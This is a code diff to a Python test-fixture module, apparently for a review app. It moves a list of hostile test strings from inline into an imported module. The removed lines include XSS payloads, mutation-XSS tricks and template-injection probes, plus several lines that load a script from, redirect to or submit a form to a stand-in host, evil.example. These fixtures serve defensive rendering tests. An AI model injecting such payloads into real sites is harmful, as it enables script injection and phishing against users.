@@ -3,29 +3,7 @@
 from viva.engine.reviews import item_key
 from viva.review.items import Item
 from viva.types import ANSWER, RATIONALE, ReviewItem
-
-TEXTS = (
-    "<script>alert(1)</script>",
-    '"><img src=x onerror=alert(2)>',
-    "'><svg onload=alert(3)>",
-    "</textarea><script>alert(4)</script>",
-    "</title></style></details><script src=//evil.example/x.js></script>",
-    "<iframe src=https://evil.example/></iframe><meta http-equiv=refresh content='0;url=https://evil.example/'>",
-    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
-    "<form action=https://evil.example/><input name=csrf><button>Save and next</button></form>",
-    "javascript:alert(5)",
-    "{{ 7 * 7 }} {% for x in () %} ${7*7} #{7*7}",
-    "<!-- --><![CDATA[<script>alert(6)</script>]]>",
-    "<a href='javascript:alert(7)' onclick=alert(8) style='position:fixed;inset:0'>click</a>",
-    "\u202egnitirw srettel\u202c \u2066isolated\u2069 zero\u200bwidth \ufeff \u00ad soft",
-    "\x00\x01\x1b[31mred\x1b[0m\x7f\x85",
-    "&lt;script&gt;alert(9)&lt;/script&gt; &#60;img src=x&#62;",
-    "Z\u0335\u0321a\u0336\u0322l\u0337g\u0338o" + "\u0301" * 200,
-    "W" * 3000,
-    "＜script＞alert(10)＜/script＞ \u2028 \u2029 \u3164",
-    '<noscript><p title="</noscript><img src=x onerror=alert(11)>">',
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(12)>",
-)
+from web.hostile import TEXTS
 
 
 def hostile(text: str) -> Item:
@@ -53,4 +31,4 @@ def hostile(text: str) -> Item:
     )
 
 
-HOSTILE = tuple(hostile(text) for text in TEXTS)
+HOSTILE = tuple(hostile(text) for text in TEXTS.values())
